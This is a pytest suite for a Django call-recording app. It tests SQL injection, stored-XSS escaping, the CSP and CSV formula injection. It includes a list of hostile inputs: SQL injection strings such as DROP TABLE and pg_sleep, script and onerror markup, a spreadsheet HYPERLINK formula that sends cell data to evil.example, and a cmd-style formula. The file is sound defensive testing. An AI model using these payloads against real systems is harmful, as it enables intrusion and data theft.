"""Injection and escaping: SQL metacharacters in every filter, markup in every stored text, formulas in CSV.

- Every query parameter of every API list (read from the OpenAPI schema) and every filter of the
  calls and products pages gets SQL metacharacters, LIKE wildcards, a backslash, NUL bytes, a
  10,000-character string, unicode and markup: a 400, or a 200 that lists none of the rows (none
  of them contains these strings, so a row would mean the filter was not taken literally) and
  nothing of another client; never a 500. Pages echo the filter back escaped.
- Markup stored in every text field a page shows (call notes and transcript, a recording's error,
  the client's name, people's names, product titles, types, vendors and tags, webhook topics and
  errors) comes out escaped; in a real browser an injected <script> does not run, and the page's
  CSP would block an inline script even if it reached the page.
- The CSV export neutralises cells a spreadsheet would run as formulas (=, +, -, @, tab, CR); a phone
  number in E.164 form (+ and 7-15 ASCII digits, the first not 0) is a number, written as it is.
"""

from __future__ import annotations

import csv
import html
import io
import json
import os
import re

import pytest
from django.test import Client as PageClient
from drf_spectacular.generators import SchemaGenerator

from accounts import jwt
from accounts.models import Client, User
from integrations.forms import ProductSearchForm
from integrations.models import Product, WebhookEvent
from recordings.api.serializers import CallFilterSerializer
from recordings.models import Call, Recording
from recordings.views import PAGING_PARAMS
from tests.exotel_fake import exotel_fixture  # noqa: F401
from tests.s3 import local_storage  # noqa: F401
from tests.worlds import populate

pytestmark = pytest.mark.django_db

MARKUP = "\"'><script>alert('xss')</script><img src=x onerror=alert(1)>"
PAYLOADS = [
    "' OR 1=1 --",
    "' OR '1'='1",
    "%",
    "%%",
    "_",
    "\\",
    "\\%",
    "a\x00b",
    "\x00",
    "x" * 10_000,
    "1; SELECT pg_sleep(5); --",
    "'; DROP TABLE recordings_call; --",
    "ünïcödé ☎ 电话 \u202eevil",
    "😀" * 50,
    "null",
    "[a-z]*",
    MARKUP,
]
SCHEMA = SchemaGenerator().get_schema(request=None, public=True)
# Every query parameter of every GET list of the API (no path parameter: the list endpoints).
LIST_PARAMETERS = [
    (path, parameter["name"])
    for path, operations in SCHEMA["paths"].items()
    if "{" not in path and "get" in operations and path.startswith("/api/v1/")
    for parameter in operations["get"].get("parameters", [])
    if parameter["in"] == "query"
]
# The calls page reads its query string with the API's CallFilterSerializer (the form shows some of it).
PAGE_PARAMETERS = [("/calls/", name) for name in [*CallFilterSerializer().fields, *PAGING_PARAMS]] + [
    ("/products/", name) for name in ProductSearchForm.base_fields
]


@pytest.fixture
def worlds(client_a, client_b, alice, charlie, local_storage, exotel, settings):  # noqa: F811
    settings.RATE_LIMITS = {**settings.RATE_LIMITS, "export_user": "1000/m"}  # each parameter gets 17 exports
    return (
        populate(client_a, alice, slug="acme-apparel", exotel_host=exotel.host),
        populate(client_b, charlie, slug="bolt-books", exotel_host=exotel.host),
    )


def _ids_of(world) -> set[str]:
    ids = {str(world.client.public_id)}
    for model in (User, Call, Recording, Product):
        ids |= {str(i) for i in model.objects.filter(client=world.client).values_list("public_id", flat=True)}
    return ids


def test_every_list_parameter_and_page_filter_is_in_the_matrix():
    by_path = {}
    for path, name in LIST_PARAMETERS:
        by_path.setdefault(path, set()).add(name)
    assert {"q", "number", "number_prefix", "status", "cursor", "limit"} <= by_path["/api/v1/calls"]
    assert {"q", "status", "page", "page_size"} <= by_path["/api/v1/products"]
    assert {"action", "actor", "created_after", "created_before"} <= by_path["/api/v1/audit-events"]
    assert {"/api/v1/recordings", "/api/v1/team/members", "/api/v1/stats/summary"} <= by_path.keys()
    assert {"q", "number_prefix", "status"} <= {name for path, name in PAGE_PARAMETERS if path == "/calls/"}


@pytest.mark.parametrize(("path", "name"), LIST_PARAMETERS, ids=[f"{p}?{n}" for p, n in LIST_PARAMETERS])
def test_metacharacters_in_an_api_filter_match_nothing_or_are_refused(api, worlds, path, name):
    world, other = worlds
    api.credentials(HTTP_AUTHORIZATION=f"Bearer {jwt.family_start(user=world.owner).access}")
    foreign = _ids_of(other)
    for payload in PAYLOADS:
        response = api.get(path, {name: payload})
        assert response.status_code in (200, 400), (payload[:40], response.status_code)
        content = b"".join(response.streaming_content) if response.streaming else response.content
        text = content.decode()
        assert not {public_id for public_id in foreign if public_id in text}, "another client's rows"
        if response.status_code == 400:
            body = json.loads(text)
            assert body["error"]["code"] == "VALIDATION_ERROR" and name in json.dumps(body["error"]), body
        elif path == "/api/v1/calls/export":
            assert len(list(csv.reader(io.StringIO(text)))) == 1, payload[:40]  # the header row only
        elif isinstance(json.loads(text)["data"], list):
            assert json.loads(text)["data"] == [], (name, payload[:40])


@pytest.mark.parametrize(("path", "name"), PAGE_PARAMETERS, ids=[f"{p}?{n}" for p, n in PAGE_PARAMETERS])
def test_metacharacters_in_a_page_filter_match_nothing_or_are_refused(worlds, path, name):
    world, other = worlds
    page = PageClient()
    page.force_login(world.owner)
    listed = {str(i) for i in Call.objects.filter(client=world.client).values_list("public_id", flat=True)}
    listed |= {str(i) for i in Product.objects.filter(client=world.client).values_list("public_id", flat=True)}
    foreign = _ids_of(other)
    for payload in PAYLOADS:
        response = page.get(path, {name: payload})
        assert response.status_code in (200, 400), (payload[:40], response.status_code)
        text = response.content.decode()
        assert not {public_id for public_id in foreign if public_id in text}
        assert "<script>alert(" not in text and "<img src=x" not in text  # echoed back escaped
        if response.status_code == 200 and name not in ("page", "cursor", "limit"):
            assert not {public_id for public_id in listed if public_id in text}, (name, payload[:40])


def test_search_wildcards_are_taken_literally(api, worlds):
    """% and _ are LIKE wildcards: escaped, they match only themselves."""
    world, _ = worlds
    Call.objects.filter(pk=world.call.pk).update(notes="Refund of 100% approved for order_77")
    api.credentials(HTTP_AUTHORIZATION=f"Bearer {jwt.family_start(user=world.owner).access}")
    for query, expected in (("100%", 1), ("order_7", 1), ("0%%", 0), ("r_f", 0)):
        rows = api.get("/api/v1/calls", {"q": query}).json()["data"]
        assert len(rows) == expected, query


# --- stored markup is escaped ---------------------------------------------------------------------


def _rendered(text: str) -> bool:
    """The markup is on the page as text (escaped), never as markup."""
    return html.escape(MARKUP, quote=False)[:40] in text.replace("&#x27;", "'").replace("&quot;", '"')


@pytest.fixture
def marked_up(worlds, staff):
    world, _ = worlds
    Client.objects.filter(pk=world.client.pk).update(name=f"Acme {MARKUP}")
    User.objects.filter(pk=world.agent.pk).update(first_name=MARKUP, last_name=MARKUP)
    User.objects.filter(pk=world.owner.pk).update(first_name=MARKUP)
    Call.objects.filter(pk=world.call.pk).update(notes=MARKUP, transcript=MARKUP, metadata={"note": MARKUP})
    Recording.objects.filter(pk=world.failed_recording.pk).update(last_error=MARKUP)
    Product.objects.filter(client=world.client).update(
        title=MARKUP, product_type=MARKUP, vendor=MARKUP, tags=[MARKUP], description=MARKUP
    )
    WebhookEvent.objects.filter(pk=world.webhook_event.pk).update(topic=MARKUP[:100], last_error=MARKUP)
    return world


PAGES_WITH_STORED_TEXT = {
    # page -> fields of `marked_up` it shows
    "/dashboard/": "client name, owner's name",
    "/calls/": "client name, owner's name, call notes",
    "call": "notes, transcript",
    "failed call": "the recording's error",
    "/products/": "product titles, types and vendors",
    "/integrations/": "webhook topics and errors",
    "/accounts/team/": "members' names",
    "/accounts/profile/": "client name",
}


@pytest.mark.parametrize("where", list(PAGES_WITH_STORED_TEXT))
def test_markup_stored_in_any_text_field_is_escaped_on_every_page(marked_up, where):
    page = PageClient()
    page.force_login(marked_up.owner)
    path = {
        "call": f"/calls/{marked_up.call.public_id}/",
        "failed call": f"/calls/{marked_up.failed_call.public_id}/",
    }.get(where, where)
    text = page.get(path).content.decode()
    assert "<script>alert(" not in text and "<img src=x" not in text
    assert _rendered(text), f"{where} should show {PAGES_WITH_STORED_TEXT[where]} (escaped)"


def test_markup_is_escaped_on_the_staff_system_page(marked_up, staff):
    page = PageClient()
    page.force_login(staff)
    text = page.get("/admin/system/").content.decode()
    assert "<script>alert(" not in text and "<img src=x" not in text


def test_markup_comes_back_from_the_api_as_plain_json_text(api, marked_up):
    api.credentials(HTTP_AUTHORIZATION=f"Bearer {jwt.family_start(user=marked_up.owner).access}")
    response = api.get(f"/api/v1/calls/{marked_up.call.public_id}")
    assert response["Content-Type"] == "application/json"
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response.json()["data"]["notes"] == MARKUP  # data, not markup: JSON is never rendered as HTML


# --- CSV formulas ---------------------------------------------------------------------------------


@pytest.mark.parametrize("prefix", ["=", "+", "-", "@", "\t", "\r"])
def test_the_csv_export_neutralises_every_formula_prefix(api, worlds, prefix):
    world, _ = worlds
    formula = f'{prefix}HYPERLINK("http://evil.example/?"&A1,"Refund")'
    Call.objects.filter(pk=world.call.pk).update(notes=formula)
    api.credentials(HTTP_AUTHORIZATION=f"Bearer {jwt.family_start(user=world.owner).access}")

    response = api.get("/api/v1/calls/export")

    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    notes = {row[0]: row[-1] for row in rows[1:]}[str(world.call.public_id)]
    assert notes == "'" + formula
    unguarded = [cell for row in rows[1:] for cell in row if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert all(re.fullmatch(r"\+[1-9][0-9]{6,14}", cell) for cell in unguarded), unguarded  # phone numbers only


@pytest.mark.parametrize(
    ("number", "cell"),
    [
        ("+919876543210", "+919876543210"),  # E.164: a number to a spreadsheet, written as it is
        ("+14155550123", "+14155550123"),
        ("+6831234", "+6831234"),  # the shortest the model accepts (7 digits)
        ("+683123", "'+683123"),  # 6 digits: too short
        ("+123456789012345", "+123456789012345"),  # the longest (15 digits)
        ("+0919876543210", "'+0919876543210"),  # no country code starts with 0
        ("+91 98765 43210", "'+91 98765 43210"),
        ("+91987654321\n", "'+91987654321\n"),
        ("+١٢٣٤٥٦٧٨٩", "'+١٢٣٤٥٦٧٨٩"),  # digits, but not ASCII ones
        ("+1+cmd|'/C'!A0", "'+1+cmd|'/C'!A0"),  # the columns hold 16 characters
        ("+91SUM(1,2)", "'+91SUM(1,2)"),
        ("-919876543210", "'-919876543210"),
    ],
)
def test_the_csv_export_writes_e164_phone_numbers_as_they_are_and_guards_anything_else(api, worlds, number, cell):
    world, _ = worlds
    Call.objects.filter(pk=world.call.pk).update(from_number=number, to_number="+919876543210")
    api.credentials(HTTP_AUTHORIZATION=f"Bearer {jwt.family_start(user=world.owner).access}")

    response = api.get("/api/v1/calls/export")

    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    header, *rows = rows
    row = {r[0]: dict(zip(header, r, strict=True)) for r in rows}[str(world.call.public_id)]
    assert (row["from_number"], row["to_number"]) == (cell, "+919876543210")


# --- in a browser ---------------------------------------------------------------------------------


@pytest.mark.browser
def test_an_injected_script_in_notes_does_not_run_and_the_csp_blocks_inline_script(live_server, transactional_db):
    from playwright.sync_api import sync_playwright

    from tests.conftest import CHROMIUM
    from tests.factories import PASSWORD, ClientFactory, UserFactory

    client = ClientFactory(name="Acme Apparel", slug="acme-apparel")
    agent = UserFactory(email="agent@acme.example", client=client, role="agent")
    call = Call.objects.create(
        client=client,
        provider_call_id="xss-1",
        direction="inbound",
        from_number="+919800000001",
        to_number="+918047112233",
        status="completed",
        started_at="2026-03-02T09:30:00Z",
        notes="<script>window.__xss = 'notes'</script><img src=x onerror=\"window.__xss = 'img'\">",
    )
    previous = os.environ.get("DJANGO_ALLOW_ASYNC_UNSAFE")
    os.environ["DJANGO_ALLOW_ASYNC_UNSAFE"] = "true"  # Playwright's loop runs on this thread
    try:
        with sync_playwright() as p:
            browser = p.chromium.launch(
                executable_path=CHROMIUM,
                headless=True,
                args=["--no-sandbox", "--disable-gpu", "--disable-background-networking", "--no-first-run"],
            )
            context = browser.new_context(base_url=live_server.url)
            context.set_default_timeout(10_000)
            page = context.new_page()
            page.add_init_script(
                """window.__violations = [];
                document.addEventListener("securitypolicyviolation",
                  (e) => window.__violations.push(e.effectiveDirective + " " + (e.blockedURI || "inline")));"""
            )
            page.goto("/accounts/login/")
            page.get_by_label("Email").fill(agent.email)
            page.get_by_label("Password").fill(PASSWORD)
            page.get_by_role("button", name=re.compile("sign in", re.I)).click()
            page.wait_for_url(re.compile(r"/dashboard/"))

            response = page.goto(f"/calls/{call.public_id}/")
            policy = response.headers["content-security-policy"]
            scripts = re.search(r"script-src ([^;]*)", policy).group(1).split()
            assert scripts == ["'self'"], policy
            page.get_by_text("<script>window.__xss = 'notes'</script>", exact=False).first.wait_for()
            assert page.evaluate("window.__xss") is None  # shown as text, never run

            # Were the escaping ever to fail, the policy still stops inline script: one added to the
            # page is refused, and the browser reports the violation.
            page.evaluate(
                """() => { const s = document.createElement("script");
                s.textContent = "window.__csp = 'ran'"; document.body.appendChild(s); }"""
            )
            page.wait_for_function("window.__violations.length > 0")
            assert page.evaluate("window.__csp") is None
            assert any(v.startswith("script-src") for v in page.evaluate("window.__violations"))
            browser.close()
    finally:
        if previous is None:
            os.environ.pop("DJANGO_ALLOW_ASYNC_UNSAFE", None)
        else:
            os.environ["DJANGO_ALLOW_ASYNC_UNSAFE"] = previous
